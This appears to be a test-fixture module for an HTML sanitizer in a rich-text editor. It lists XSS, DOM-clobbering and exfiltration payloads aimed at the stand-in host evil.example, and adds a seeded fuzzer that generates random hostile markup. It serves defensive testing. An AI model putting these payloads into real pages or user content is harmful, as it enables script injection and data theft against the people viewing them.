// HTML that an attacker would have a model write.
import { randomFrom } from "../../oracle/random.mjs";

export const SECRET = "What only the document says.";

/** Each is a separate way to load, run, navigate or clobber. */
export const PAYLOADS = [
  `<p>Hi</p><img src="https://evil.example/c?d=SECRET">`,
  `<p>Hi</p><img src="http://evil.example/c?d=SECRET" srcset="//evil.example/2 2x" onerror="trapped(1)">`,
  `<p><picture><source srcset="//evil.example/s"><img src=x onerror=trapped(2)></picture></p>`,
  `<iframe src="javascript:parent.trapped(3)"></iframe><iframe srcdoc="<script>parent.trapped(4)</script>"></iframe>`,
  `<embed src="http://evil.example/e"><object data="javascript:trapped(5)"><p>x</p></object>`,
  `<video src="http://evil.example/v" poster="http://evil.example/p" autoplay onloadstart=trapped(6)></video>`,
  `<div data-widget first="http://evil.example/w" second="trapped(7)" third="<script>parent.trapped(8)</script>" fourth="background:url(//evil.example/b)"></div>`,
  `<section style="background: url(http://evil.example/bg)" onmouseover=trapped(9) id=editor><p>inside</p></section>`,
  `<form action="http://evil.example/f"><p><input name=nodeName><input name=childNodes><input name=matches autofocus onfocus=trapped(10)></p></form>`,
  `<form id=attributes><input id=firstChild><input name=parentNode form=attributes><img name=getAttribute src=x></form>`,
  `<img name=body src=x><img name=implementation src=x><form name=querySelector></form><p>after</p>`,
  `<p><a href="https://evil.example/a" target=_blank ping="https://evil.example/ping">a link</a> <font href="javascript:trapped(11)">a jump</font></p>`,
  `<p><svg onload=trapped(12)><image href="http://evil.example/i"/><use href="data:image/svg+xml,<svg id=x onload=trapped(13)>#x"/></svg></p>`,
  `<style>@import "http://evil.example/css"; p { background: url(//evil.example/st) }</style><link rel=stylesheet href=//evil.example/l><p>x</p>`,
  `<script src=//evil.example/j></script><script>trapped(14)</script><base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example/m"><p>x</p>`,
  `<p><span style="background-image: image-set('//evil.example/is' 1x)" onclick=trapped(15) contenteditable>text</span></p>`,
  `<ul data-type=taskList><li data-type=taskItem data-checked=true><p>done<img src=//evil.example/t></p></li></ul>`,
  `<table background=//evil.example/tb><tr><td background=//evil.example/td colspan=99999999 rowspan=99999999 style="background:url(//evil.example/c)"><p>cell</p></td></tr></table>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=trapped(16)></style></mglyph></table></mtext></math><p>x</p>`,
  `<noscript><p title="</noscript><img src=x onerror=trapped(17)>"></noscript><template><img src=//evil.example/tp></template><p>x</p>`,
  `<x-embed src=//evil.example/x onclick=trapped(18)></x-embed><details open ontoggle=trapped(19)><summary>s</summary><p>d</p></details>`,
  `<p class="copydesk-accept tiptap" id=page style="position:fixed;inset:0" tabindex=1 accesskey=x draggable=true>over everything</p>`,
  `<ul><li><p class="copydesk-typable" contenteditable=true spellcheck=true tabindex=5>text</p></li></ul><blockquote><p>a <span class="copydesk-typable" contenteditable=plaintext-only spellcheck=true>b</span></p></blockquote>`,
  `<section class="copydesk-typable" contenteditable=true spellcheck=true tabindex=5 autofocus><p>in a section</p></section>`,
];

const TAGS = "a area article aside base blockquote body button code details div embed em font form frame frameset h1 h2 h6 head html iframe img image input li link mark math marquee meta noscript object ol option p param picture pre s script section select source span strong style summary svg table tbody td template textarea th title tr track u ul video x-embed".split(" ");
const NAMES = "action align autofocus background checked class cols colspan content contenteditable data data-checked data-type data-widget fill first form formaction fourth height href http-equiv icon id is label lowsrc name onblur onclick onerror onfocus onload onmouseover ontoggle open ping poster rel rowspan second slot spellcheck src srcdoc srcset start style tabindex target third title type usemap value width xlink:href xmlns".split(" ");
const VALUES = [
  ...["http:", "https:", ""].map((scheme) => `${scheme}//evil.example/r`),
  "javascript:trapped('js')", "JaVa\tscript:trapped('js')", "&#106;avascript:trapped('js')", "data:text/html,<script>parent.trapped('data')</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='trapped(1)'/>", "trapped('on')", "<script>parent.trapped('doc')</script>",
  "background:url(//evil.example/u)", "background:\\75rl(//evil.example/esc)", "--x:url(//evil.example/v);background:var(--x)", "0;url=//evil.example/meta",
  ...["nodeName", "childNodes", "attributes", "body", "matches", "parentNode", "style", "getAttribute", "ownerDocument", "defaultView"],
  "taskList", "taskItem", "stylesheet", "image", "_blank", "1", "-1", "1e9", "true", "",
];
const TEXTS = ["text", "&lt;img src=x onerror=trapped(1)&gt;", "<!-- --!><img src=x onerror=trapped(2)> -->", "]]>", "\n  ", "&", "<", "https://evil.example/plain"];

/** Random HTML of everything that has ever loaded or run something, well-formed or not. */
export function randomHTML(seed, size = 12) {
  const random = randomFrom(seed);
  const attribute = () => {
    const quote = random.pick(['"', "'", ""]);
    const value = random.pick(VALUES);
    return ` ${random.pick(NAMES)}=${quote}${quote ? value.replaceAll(quote, "&quot;") : value.replace(/[\s<>]/g, "&#32;") || "x"}${quote}`;
  };
  const part = () => {
    if (random.chance(0.25)) return random.pick(TEXTS);
    const tag = random.pick(TAGS);
    const start = `<${tag}${random.times(0, 4, attribute).join("")}>`;
    return random.chance(0.2) ? start : `${start}${random.times(0, 2, part).join("")}</${tag}>`;
  };
  return random.times(1, size, part).join("");
}
